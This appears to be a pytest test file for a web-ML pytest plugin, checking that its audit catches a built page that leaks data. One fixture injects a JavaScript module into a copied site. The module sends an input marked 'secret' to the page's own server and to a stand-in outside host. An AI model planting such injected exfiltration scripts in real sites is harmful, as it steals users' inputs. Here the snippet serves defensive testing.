"""webml's pytest plugin in a user's own suite, run by pytester in a fresh pytest process.

The plugin is found through its ``pytest11`` entry point, as in a user's
environment: nothing here loads it by hand.
"""

from __future__ import annotations

import shutil
from importlib import metadata
from pathlib import Path

import pytest

from converter import ConvertOptions
from webapp.build import BuildOptions, build_site

pytest_plugins = ["pytester"]
pytestmark = pytest.mark.browser  # the user's tests open the page in a real Chromium

USER_TEST = """
import numpy as np


def test_my_page_answers_and_keeps_inputs_local(webml_page):
    outputs = webml_page.run({"image": np.zeros((1, 1, 8, 8))})
    assert outputs["probabilities"].shape == (1, 10)
    golden = webml_page.run_golden()
    want = webml_page.manifest.golden.outputs["probabilities"]
    assert np.allclose(golden["probabilities"], want, atol=1e-4)
    assert webml_page.backend == "wasm"
    webml_page.assert_audit_passed()
"""

# Sends what the page was given back to its own server once the model is ready,
# and tries another origin too (the CSP refuses that one).
LEAK = """window.webml.ready.then(() => {
  fetch('webml.json?input=secret');
  fetch('http://127.0.0.2:9/collect', { mode: 'no-cors' }).catch(() => {});
});
"""


def test_the_entry_point_names_the_plugin() -> None:
    (entry,) = [e for e in metadata.entry_points(group="pytest11") if e.name == "webml"]
    assert entry.value == "webml.pytest_plugin"


@pytest.fixture(scope="module")
def leaky_site(tiny_onnx: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A built tiny site, then changed: a module that leaks once the model is ready."""
    site = build_site(tiny_onnx, tmp_path_factory.mktemp("plugin") / "site", BuildOptions(
        backends=("wasm",), convert=ConvertOptions(image=False))).out_dir
    leaky = tmp_path_factory.mktemp("leaky") / "site"
    shutil.copytree(site, leaky)
    (leaky / "js" / "leak.js").write_text(LEAK, encoding="utf-8")
    index = leaky / "index.html"
    index.write_text(index.read_text(encoding="utf-8").replace(
        "</head>", '<script type="module" src="js/leak.js"></script></head>'), encoding="utf-8")
    return leaky


def test_a_built_folder_given_on_the_command_line_is_taken_as_it_is(
        pytester: pytest.Pytester, leaky_site: Path) -> None:
    pytester.makepyfile(test_mine=f"""
from pathlib import Path


def test_the_site_is_mine(webml_site):
    assert webml_site == Path({str(leaky_site)!r})
""")
    result = pytester.runpytest_subprocess("-p", "no:cacheprovider", "--webml-source",
                                           str(leaky_site), timeout=300)
    result.assert_outcomes(passed=1)


def test_a_users_suite_passes_on_a_page_built_from_their_model(pytester: pytest.Pytester,
                                                               tiny_onnx: Path) -> None:
    # The model path from the ini file; webml_site builds it once for the session.
    pytester.makeini(f"[pytest]\nwebml_source = {tiny_onnx}\nwebml_backend = wasm\n")
    pytester.makepyfile(test_mine=USER_TEST)
    result = pytester.runpytest_subprocess("-p", "no:cacheprovider", timeout=600)
    result.assert_outcomes(passed=1)


def test_a_users_suite_fails_on_a_leaking_page_with_the_reason(pytester: pytest.Pytester,
                                                                leaky_site: Path) -> None:
    # A built folder, chosen by overriding the webml_source fixture in the user's conftest.
    pytester.makeconftest(f"""
import pytest
from pathlib import Path


@pytest.fixture(scope="session")
def webml_source():
    return Path({str(leaky_site)!r})
""")
    pytester.makepyfile(test_mine="""
def test_my_page_keeps_inputs_local(webml_page):
    webml_page.run_golden()
    webml_page.assert_audit_passed(watch_s=1)
""")
    result = pytester.runpytest_subprocess("-p", "no:cacheprovider", "--webml-backend", "wasm",
                                           timeout=600)
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines([
        "*AssertionError: webml audit failed:*",
        "*request after the model loaded: GET http://127.0.0.1:*/webml.json?input=secret*",
    ])
    output = result.stdout.str()
    assert "CSP violation" in output and "127.0.0.2:9/collect" in output
    assert "index.html: differs from the build record" in output
    assert "js/leak.js: not in the build record" in output
